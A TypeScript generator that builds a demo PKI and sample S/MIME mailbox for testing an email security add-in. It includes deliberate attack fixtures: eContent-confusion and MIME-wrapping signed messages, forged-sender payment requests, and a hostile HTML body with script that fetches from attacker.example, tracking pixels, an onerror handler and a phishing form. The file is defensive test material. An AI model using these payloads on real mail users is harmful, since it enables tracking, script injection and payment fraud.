// Generates the workbench mailbox on first start: a demo PKI (openssl, demo-pki.ts) and one sample message
// per badge state, plus the attacks of ARCHITECTURE.md's security rules (eContent confusion, MIME wrapping, a
// hostile HTML body), signed and encrypted with Signet's own core (smime/protect.ts) or, where the attack
// needs a structure Signet refuses to build, with `openssl cms`. Output goes to `.workbench/` (git-ignored):
//   .workbench/pki/            CA and user keys (never served)
//   .workbench/public/         served by the workbench server next to dist/:
//     trust-anchors.pem        the demo root, which the simulated user trusts (a user-trusted root in the pane)
//     demo/owner-identity.pem  the mailbox owner's demo key, which the workbench hands to the pane
//     mailbox/index.json, *.eml, *.p7m
//   .workbench/delivered/      what the workbench sent (mail-store.ts), cleared when the samples are regenerated

import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { fileURLToPath } from 'node:url';
import { cryptoProvider } from '../src/core/crypto.js';
import { toBase64, utf8 } from '../src/core/bytes.js';
import { formatDate } from '../src/core/mime/builder.js';
import { protectMessage, type ProtectOptions } from '../src/core/smime/protect.js';
import { loadIdentities } from '../src/keys/identity-file.js';
import { smimeAttachment } from './delivery.js';
import { makeDemoPki, type DemoPki, type DemoUser } from './demo-pki.js';
import { MAILBOX_PATH, type Delivery, type MailboxIndex, type MailboxMessage, type MailboxPerson } from './mailbox.js';

export const MAILBOX_VERSION = 7;

/** The shared mailbox the owner may send as (MailboxIndex.sendAs); it has no demo key of its own. */
export const SHARED_MAILBOX: MailboxPerson = { name: 'Example Support', email: 'support@example.org' };

/** Host name used by every remote reference in the hostile sample; the e2e tests watch for it. */
export const ATTACKER_HOST = 'attacker.example';

const CRLF = '\r\n';

function person(u: DemoUser): MailboxPerson {
  return { name: u.name, email: u.email };
}

function outerHeaders(m: { id: string; from: MailboxPerson; to: MailboxPerson[]; subject: string; date: Date }): string {
  return [
    `From: ${m.from.name} <${m.from.email}>`,
    `To: ${m.to.map((t) => `${t.name} <${t.email}>`).join(', ')}`,
    `Subject: ${m.subject}`,
    `Date: ${formatDate(m.date)}`,
    `Message-ID: <${m.id}.${m.date.getTime()}@workbench.signet.example>`,
    'MIME-Version: 1.0',
  ].join(CRLF);
}

function textEntity(text: string): string {
  return `Content-Type: text/plain; charset=utf-8${CRLF}Content-Transfer-Encoding: 8bit${CRLF}${CRLF}${text.replace(/\r?\n/g, CRLF)}${CRLF}`;
}

function replaceOnce(haystack: string, needle: string, replacement: string): string {
  const i = haystack.indexOf(needle);
  if (i < 0) throw new Error(`sample generator: ${JSON.stringify(needle)} not found`);
  return haystack.slice(0, i) + replacement + haystack.slice(i + needle.length);
}

const latin1 = (b: Uint8Array): string => Buffer.from(b).toString('latin1');
const fromLatin1 = (s: string): Uint8Array => new Uint8Array(Buffer.from(s, 'latin1'));

function hostileHtml(): string {
  const a = `http://${ATTACKER_HOST}`;
  return `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0; url=${a}/meta-refresh">
<link rel="stylesheet" href="${a}/link.css">
<base href="${a}/base/">
<style>
  @import url("${a}/import.css");
  body { background: url(${a}/css-background.png); font-family: sans-serif; }
  .box { border: 1px solid #999; padding: 8px; }
</style>
<script>parent.postMessage('signet-pwned', '*'); fetch('${a}/script-fetch');</script>
</head>
<body>
<h2>Invoice 2024-117</h2>
<p class="box">Please find the invoice below. This message tries every trick to load remote content or run
script; in Signet none of it should work.</p>
<p>Tracking pixel: <img src="${a}/pixel.png" width="1" height="1" alt="pixel"></p>
<p><img src="x" onerror="parent.postMessage('signet-pwned', '*')" alt="broken image with onerror"></p>
<p><img srcset="${a}/srcset.png 2x" alt="srcset"></p>
<div style="background-image: url('${a}/inline-style.png')">A block with a remote background.</div>
<table background="${a}/table-background.png"><tr><td>Amount due</td><td>EUR 1,250.00</td></tr></table>
<form action="${a}/form" method="post"><input name="iban" value="DE00 1234"><button type="submit">Pay now</button></form>
<iframe src="${a}/iframe.html"></iframe>
<object data="${a}/object.swf"></object>
<video poster="${a}/poster.png" src="${a}/video.mp4"></video>
<svg width="10" height="10"><image href="${a}/svg-image.png" width="10" height="10"/></svg>
<p><a href="${a}/phish">Pay online</a></p>
</body></html>
`;
}

function relatedHtmlEntity(png: Uint8Array, csv: string): string {
  const b1 = 'mixed-5f1d0a';
  const b2 = 'related-77b2c9';
  const html =
    '<html><body style="font-family: Segoe UI, sans-serif">' +
    '<p><img src="cid:logo@example.org" alt="Example Corp logo" width="32" height="32"></p>' +
    '<h3>Contract draft, version 3</h3>' +
    '<p>Hi Dana,</p><p>here is the <b>contract draft</b> we discussed. The price table is attached as CSV.</p>' +
    '<p>Best,<br>Alice</p></body></html>';
  return [
    `Content-Type: multipart/mixed; boundary="${b1}"`,
    '',
    `--${b1}`,
    `Content-Type: multipart/related; boundary="${b2}"`,
    '',
    `--${b2}`,
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    html,
    `--${b2}`,
    'Content-Type: image/png',
    'Content-Transfer-Encoding: base64',
    'Content-ID: <logo@example.org>',
    'Content-Disposition: inline; filename="logo.png"',
    '',
    toBase64(png, 76).replace(/\n/g, CRLF),
    `--${b2}--`,
    `--${b1}`,
    'Content-Type: text/csv; charset=utf-8; name="prices.csv"',
    'Content-Disposition: attachment; filename="prices.csv"',
    'Content-Transfer-Encoding: 8bit',
    '',
    csv,
    `--${b1}--`,
    '',
  ].join(CRLF);
}

interface Built {
  id: string;
  from: MailboxPerson;
  to: MailboxPerson[];
  subject: string;
  date: Date;
  preview: string;
  delivery: Delivery;
  eml: Uint8Array;
  exported?: Uint8Array;
}

/** Builds every sample; `pkiDir` holds the PEM files openssl needs for the hand-made attacks. */
async function buildSamples(pki: DemoPki, pkiDir: string): Promise<Built[]> {
  const provider = cryptoProvider();
  const ids = async (u: DemoUser) => (await loadIdentities(utf8(u.identityPem), undefined, provider))[0]!;
  const [alice, bob, mallory, expired] = await Promise.all([ids(pki.users.alice), ids(pki.users.bob), ids(pki.users.mallory), ids(pki.users.expired)]);
  const owner = pki.users.owner;
  const ownerCert = (await ids(owner)).certificate;
  const aliceCert = alice.certificate;
  const carolCert = (await ids(pki.users.carol)).certificate;
  const now = new Date();
  // Spread the dates so the list reads like an inbox, newest first; every one is within the signing-time skew.
  let minutes = 0;
  const at = (): Date => new Date(now.getTime() - (minutes += 7) * 60_000);
  const to = [person(owner)];
  const out: Built[] = [];

  const make = async (
    spec: { id: string; from: DemoUser; subject: string; preview: string; delivery?: Delivery; entity: string },
    protect: Omit<ProtectOptions, 'provider'> | null,
  ): Promise<Built> => {
    const date = at();
    const head = { id: spec.id, from: person(spec.from), to, subject: spec.subject, date };
    const plain = utf8(outerHeaders(head) + CRLF + spec.entity);
    // signingTime = Date header: the core rejects a Date far from the signing time (a re-dated replay).
    const options: ProtectOptions | null = protect && { ...protect, provider, ...(protect.sign ? { sign: { ...protect.sign, signingTime: date } } : {}) };
    const eml = options ? await protectMessage(plain, options) : plain;
    const built: Built = { ...head, preview: spec.preview, delivery: spec.delivery ?? (protect ? 'smime-attachment' : 'plain'), eml };
    out.push(built);
    return built;
  };

  const report = 'Hi Dana,\n\nthe quarterly report is final: revenue EUR 1,250,000, costs EUR 980,000.\n\nAlice';
  await make(
    { id: 'plain', from: pki.users.carol, subject: 'Lunch on Friday?', preview: 'An ordinary message without S/MIME.', entity: textEntity('Lunch on Friday at 12?\n\nCarol') },
    null,
  );
  // Outlook's own signatures are often SHA-1 (clear-signed with openssl here, as Signet never signs SHA-1).
  // Made first: openssl stamps signingTime = now, and the Date header must be within the signing-time skew.
  writeFileSync(join(pkiDir, 'sha1.txt'), textEntity('The budget figures you asked for are attached to the shared folder.\n\nAlice'));
  const sha1 = latin1(
    execFileSync('openssl', ['cms', '-sign', '-md', 'sha1', '-crlfeol', '-in', 'sha1.txt', '-signer', 'alice.pem', '-inkey', 'alice.key', '-certfile', 'inter.pem'], { cwd: pkiDir }),
  );
  await make(
    {
      id: 'outdated-sha1',
      from: pki.users.alice,
      subject: 'Budget figures (SHA-1 signature, as old Outlook sends)',
      preview: 'Clear-signed with SHA-1: content intact, method outdated.',
      delivery: 'smime-attachment',
      entity: sha1.replace(/^MIME-Version: 1\.0\r?\n/, ''),
    },
    null,
  );
  await make(
    { id: 'valid-signed', from: pki.users.alice, subject: 'Quarterly report (signed)', preview: 'Clear-signed (multipart/signed) by a trusted sender.', entity: textEntity(report) },
    { sign: { identity: alice } },
  );
  await make(
    { id: 'opaque-signed', from: pki.users.alice, subject: 'Meeting notes (opaque signed)', preview: 'Opaque signed-data (application/pkcs7-mime).', entity: textEntity('Notes from Monday:\n- ship Signet\n- celebrate\n\nAlice') },
    { sign: { identity: alice, opaque: true } },
  );
  const tampered = await make(
    { id: 'tampered', from: pki.users.alice, subject: 'Payment instructions (tampered)', preview: 'Signed, then the amount was changed in transit.', entity: textEntity('Please transfer EUR 1,250 to our usual account.\n\nAlice') },
    { sign: { identity: alice } },
  );
  tampered.eml = fromLatin1(replaceOnce(latin1(tampered.eml), 'EUR 1,250', 'EUR 9,250'));
  await make(
    { id: 'untrusted', from: pki.users.mallory, subject: 'Urgent: new bank details', preview: "Signed with a certificate from a CA nobody trusts, in Alice's name.", entity: textEntity('Our bank details changed, please update them.\n\n"Alice"') },
    { sign: { identity: mallory } },
  );
  await make(
    { id: 'expired', from: pki.users.expired, subject: 'Old certificate', preview: "Signed with a certificate that expired in 2021.", entity: textEntity('I still use my old certificate.\n\nOscar') },
    { sign: { identity: expired } },
  );
  await make(
    { id: 'sender-mismatch', from: pki.users.alice, subject: 'Re: invoice (sender mismatch)', preview: "From says Alice, but Bob signed it.", entity: textEntity('Please pay the invoice today.\n\nAlice (really Bob)') },
    { sign: { identity: bob } },
  );
  await make(
    { id: 'encrypted', from: pki.users.alice, subject: 'Salary review (encrypted)', preview: 'Encrypted to you (AES-256-GCM), not signed.', entity: textEntity('The salary review meeting moved to Thursday.\n\nAlice') },
    { encrypt: { recipients: [ownerCert, aliceCert], cipher: 'aes-256-gcm' } },
  );
  const png = companyLogoPng();
  await make(
    {
      id: 'signed-encrypted',
      from: pki.users.alice,
      subject: 'Contract draft (signed and encrypted)',
      preview: 'Signed, then encrypted: HTML with an inline image and a CSV attachment.',
      entity: relatedHtmlEntity(png, 'item,price\r\nlicence,1200\r\nsupport,300'),
    },
    { sign: { identity: alice }, encrypt: { recipients: [ownerCert, aliceCert], cipher: 'aes-256-gcm' } },
  );
  await make(
    { id: 'encrypted-other', from: pki.users.alice, subject: 'For Carol only (encrypted)', preview: 'Encrypted for someone else: you have no key for it.', entity: textEntity('Carol, this is for you only.\n\nAlice') },
    { encrypt: { recipients: [carolCert], cipher: 'aes-128-gcm' } },
  );
  const reser = await make(
    {
      id: 'reserialized',
      from: pki.users.alice,
      subject: 'Travel plans (re-serialized by Outlook)',
      preview: 'Clear-signed; this Outlook only gives a rebuilt copy (no smime.p7m).',
      delivery: 'reserialized',
      entity: textEntity('I land at 10:40 on Tuesday.\n\nAlice'),
    },
    { sign: { identity: alice } },
  );
  // What classic Outlook does when it rebuilds MIME from MAPI: same content, different bytes.
  reser.exported = fromLatin1(replaceOnce(latin1(reser.eml), 'Content-Type: text/plain; charset=utf-8', 'Content-Type: text/plain;\r\n\tcharset="utf-8"'));

  // A clear-signed message from Alice read from a rebuilt copy, but signed with the forged certificate of an
  // unknown CA: the rebuilt copy must not turn this danger into "could not be checked".
  const reserForged = await make(
    {
      id: 'reserialized-forged',
      from: pki.users.mallory,
      subject: 'Invoice correction (forged, rebuilt copy)',
      preview: "Forged certificate in Alice's name, and this Outlook only gives a rebuilt copy.",
      delivery: 'reserialized',
      entity: textEntity('Please use the corrected account number from now on.\n\n"Alice"'),
    },
    { sign: { identity: mallory } },
  );
  reserForged.exported = fromLatin1(replaceOnce(latin1(reserForged.eml), 'Content-Type: text/plain; charset=utf-8', 'Content-Type: text/plain;\r\n\tcharset="utf-8"'));
  // A mailing list added a footer: multipart/mixed around Alice's intact multipart/signed entity.
  // Signed when the list received it: the signing time is the Date the list keeps on the wrapped message
  // (make() below gives it the next date of the inbox), as a real list relays the original Date.
  const listDate = new Date(now.getTime() - (minutes + 7) * 60_000);
  const listSigned = await protectMessage(utf8(`From: Alice Example <alice@example.org>${CRLF}MIME-Version: 1.0${CRLF}` + textEntity('Minutes of the steering group are online.\n\nAlice')), { sign: { identity: alice, signingTime: listDate }, provider });
  const listEntity = latin1(listSigned).split(CRLF + 'MIME-Version: 1.0' + CRLF)[1]!;
  const l = 'list-4d2e';
  await make(
    {
      id: 'list-wrapped',
      from: pki.users.alice,
      subject: '[team] Steering group minutes (via mailing list)',
      preview: 'A signed message with a mailing-list footer added around it.',
      delivery: 'plain',
      entity: [`Content-Type: multipart/mixed; boundary="${l}"`, '', `--${l}`, listEntity.replace(/\r\n$/, ''), `--${l}`, textEntity('--\nteam mailing list - unsubscribe: team-leave@lists.example.org').replace(/\r\n$/, ''), `--${l}--`, ''].join(CRLF),
    },
    null,
  );
  await make(
    {
      id: 'encrypted-cbc',
      from: pki.users.alice,
      subject: 'Room booking (encrypted, CBC, not signed)',
      preview: 'Encrypted with AES-CBC and not signed: not protected against changes.',
      entity: textEntity('Room 4.12 is booked for Thursday: https://rooms.example.org/4.12\n\nAlice'),
    },
    { encrypt: { recipients: [ownerCert, aliceCert], cipher: 'aes-256-cbc' } },
  );
  await make(
    {
      id: 'malformed',
      from: pki.users.alice,
      subject: 'Damaged message',
      preview: 'An S/MIME message whose signature block is not valid DER.',
      delivery: 'plain',
      entity: ['Content-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"', 'Content-Transfer-Encoding: base64', '', 'MIIBAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0uLzAx', ''].join(CRLF),
    },
    null,
  );
  // Attack: eContent confusion (rule 2): the signature carries its own content; the visible part is another text.
  const evil = join(pkiDir, 'econtent.txt');
  writeFileSync(evil, 'Content-Type: text/plain\r\n\r\nThe text Alice really signed.\r\n');
  const der = execFileSync('openssl', ['cms', '-sign', '-nodetach', '-binary', '-md', 'sha256', '-in', evil, '-signer', 'alice.pem', '-inkey', 'alice.key', '-certfile', 'inter.pem', '-outform', 'DER'], { cwd: pkiDir });
  const b = 'sig-3c1f';
  await make(
    {
      id: 'attack-econtent',
      from: pki.users.alice,
      subject: 'Attack: eContent confusion',
      preview: 'multipart/signed whose signature secretly carries other content.',
      delivery: 'smime-attachment',
      entity: [
        `Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="${b}"`,
        '',
        `--${b}`,
        textEntity('Please wire EUR 50,000 to the new account.\n\nAlice').replace(/\r\n$/, ''),
        `--${b}`,
        'Content-Type: application/pkcs7-signature; name="smime.p7s"',
        'Content-Transfer-Encoding: base64',
        'Content-Disposition: attachment; filename="smime.p7s"',
        '',
        toBase64(new Uint8Array(der), 76).replace(/\n/g, CRLF),
        `--${b}--`,
        '',
      ].join(CRLF),
    },
    null,
  );
  // Attack: MIME wrapping (rule 1): Alice's genuinely signed entity hidden below an attacker's text.
  const genuine = await protectMessage(utf8(`From: Alice Example <alice@example.org>${CRLF}MIME-Version: 1.0${CRLF}` + textEntity('Yes, approved.\n\nAlice')), { sign: { identity: alice }, provider });
  const genuineEntity = latin1(genuine).split(CRLF + 'MIME-Version: 1.0' + CRLF)[1]!;
  const w = 'wrap-9a0e';
  await make(
    {
      id: 'attack-wrapping',
      from: pki.users.alice,
      subject: 'Attack: MIME wrapping',
      preview: 'A genuine signed part wrapped below an unsigned attacker text.',
      delivery: 'plain',
      entity: [`Content-Type: multipart/mixed; boundary="${w}"`, '', `--${w}`, textEntity('Approved: transfer the full budget to account DE00 9999.').replace(/\r\n$/, ''), `--${w}`, genuineEntity.replace(/\r\n$/, ''), `--${w}--`, ''].join(CRLF),
    },
    null,
  );
  await make(
    {
      id: 'attack-html',
      from: pki.users.alice,
      subject: 'Attack: hostile HTML (remote content, script, forms)',
      preview: 'Signed and encrypted HTML with remote images, script, a form, CSS url() and meta refresh.',
      entity: `Content-Type: text/html; charset=utf-8${CRLF}Content-Transfer-Encoding: 8bit${CRLF}${CRLF}${hostileHtml().replace(/\r?\n/g, CRLF)}`,
    },
    { sign: { identity: alice }, encrypt: { recipients: [ownerCert], cipher: 'aes-256-gcm' } },
  );
  // About 100 KB of signed text: the message the badge-latency benchmark opens.
  const line = 'Signet benchmark line: the quick brown fox jumps over the lazy dog 0123456789.';
  const big = Array.from({ length: 1300 }, (_, i) => `${String(i).padStart(4, '0')} ${line}`).join('\n');
  await make(
    { id: 'large-signed', from: pki.users.alice, subject: 'Statistics, 100 KB (signed)', preview: 'A 100 KB clear-signed message (the latency benchmark).', entity: textEntity(big) },
    { sign: { identity: alice } },
  );
  return out;
}

function packageRoot(): string {
  // lib/workbench/samples.js → two levels up.
  return fileURLToPath(new URL('../../', import.meta.url));
}

/** Paths of the generated workbench data under a package root. */
export function workbenchPaths(root = packageRoot()): { base: string; publicDir: string; pkiDir: string; index: string; delivered: string } {
  const base = join(root, '.workbench');
  const publicDir = join(base, 'public');
  return { base, publicDir, pkiDir: join(base, 'pki'), index: join(publicDir, MAILBOX_PATH, 'index.json'), delivered: join(base, 'delivered') };
}

function currentVersion(index: string): number | null {
  try {
    return (JSON.parse(readFileSync(index, 'utf8')) as MailboxIndex).version;
  } catch {
    return null;
  }
}

/**
 * Makes sure `.workbench/` holds a current mailbox: generates the demo PKI and the samples when missing or
 * made by an older generator. Returns the public folder the server should serve. `log` gets progress lines.
 */
export async function ensureMailbox(root = packageRoot(), log: (line: string) => void = () => {}, force = false): Promise<string> {
  const paths = workbenchPaths(root);
  if (!force && currentVersion(paths.index) === MAILBOX_VERSION) return paths.publicDir;
  log('Generating the workbench mailbox (demo CA, identities and samples) with openssl and Signet…');
  const started = Date.now();
  const tmp = join(paths.base, `tmp-${process.pid}`);
  rmSync(tmp, { recursive: true, force: true });
  const pkiDir = join(tmp, 'pki');
  const pub = join(tmp, 'public');
  const pki = makeDemoPki(pkiDir);
  const samples = await buildSamples(pki, pkiDir);
  const mailboxDir = join(pub, MAILBOX_PATH);
  mkdirSync(mailboxDir, { recursive: true });
  mkdirSync(join(pub, 'demo'), { recursive: true });
  writeFileSync(join(pub, 'trust-anchors.pem'), pki.rootPem);
  writeFileSync(join(pub, 'demo', 'owner-identity.pem'), pki.users.owner.identityPem);
  const messages: MailboxMessage[] = samples.map((s) => {
    const m: MailboxMessage = { id: s.id, folder: 'inbox', from: s.from, to: s.to, subject: s.subject, date: s.date.toISOString(), preview: s.preview, delivery: s.delivery, file: `${s.id}.eml` };
    writeFileSync(join(mailboxDir, m.file), s.eml);
    if (s.exported) {
      m.exportFile = `${s.id}.export.eml`;
      writeFileSync(join(mailboxDir, m.exportFile), s.exported);
    }
    if (s.delivery === 'smime-attachment') {
      const p7m = smimeAttachment(s.eml);
      m.attachmentFile = `${s.id}.p7m`;
      m.attachmentSize = p7m.length;
      writeFileSync(join(mailboxDir, m.attachmentFile), p7m);
    }
    return m;
  });
  const index: MailboxIndex = { version: MAILBOX_VERSION, generatedAt: new Date().toISOString(), owner: person(pki.users.owner), sendAs: [SHARED_MAILBOX], messages };
  writeFileSync(join(mailboxDir, 'index.json'), JSON.stringify(index, null, 2));
  rmSync(paths.publicDir, { recursive: true, force: true });
  rmSync(paths.pkiDir, { recursive: true, force: true });
  // Mail sent with the previous demo keys can no longer be read: start the delivered mailbox afresh too.
  rmSync(paths.delivered, { recursive: true, force: true });
  mkdirSync(paths.base, { recursive: true });
  renameSync(pub, paths.publicDir);
  renameSync(pkiDir, paths.pkiDir);
  rmSync(tmp, { recursive: true, force: true });
  log(`Workbench mailbox ready: ${messages.length} samples in ${((Date.now() - started) / 1000).toFixed(1)} s (${paths.publicDir}).`);
  return paths.publicDir;
}

export function mailboxExists(root = packageRoot()): boolean {
  return existsSync(workbenchPaths(root).index);
}

/**
 * The sender's "company logo" inline image (an orange disc). Deliberately not Signet's shield: status
 * lives in add-in chrome only (ARCHITECTURE.md rule 6), so sample content must not look like a trust mark.
 */
function companyLogoPng(): Uint8Array {
  const size = 32;
  const raw = Buffer.alloc(size * (size * 4 + 1));
  for (let y = 0; y < size; y++) {
    raw[y * (size * 4 + 1)] = 0; // filter: none
    for (let x = 0; x < size; x++) {
      const inside = (x - 15.5) ** 2 + (y - 15.5) ** 2 <= 15 ** 2;
      raw.set(inside ? [0xe8, 0x6a, 0x1c, 0xff] : [0, 0, 0, 0], y * (size * 4 + 1) + 1 + x * 4);
    }
  }
  const chunk = (type: string, data: Buffer): Buffer => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(data.length, 0);
    head.write(type, 4, 'latin1');
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
    return Buffer.concat([head, data, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(size, 0);
  ihdr.writeUInt32BE(size, 4);
  ihdr.set([8, 6, 0, 0, 0], 8); // 8-bit RGBA
  const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(raw)), chunk('IEND', Buffer.alloc(0))]);
  return new Uint8Array(png);
}
